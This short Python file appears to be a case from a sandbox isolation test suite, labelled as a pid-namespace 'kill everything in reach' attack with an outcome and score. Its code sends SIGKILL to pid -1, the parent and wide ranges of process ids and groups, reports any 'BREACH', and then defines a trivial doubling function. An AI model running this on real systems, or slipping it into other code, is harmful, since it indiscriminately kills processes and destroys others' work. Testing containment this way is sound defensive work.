# attack: kill everything in reach
# layer: pid-namespace
# outcome: ok
# score: 2
import os
import signal

reached = []
for pid in [-1, os.getppid() or 2, *range(2, 400), *range(-400, -1), *range(400, 65536, 97)]:
    try:
        os.kill(pid, signal.SIGKILL)
        reached.append(pid)
    except OSError:
        pass
if reached:
    os.write(1, f"BREACH signalled {reached}".encode())


def double(x):
    return x * 2
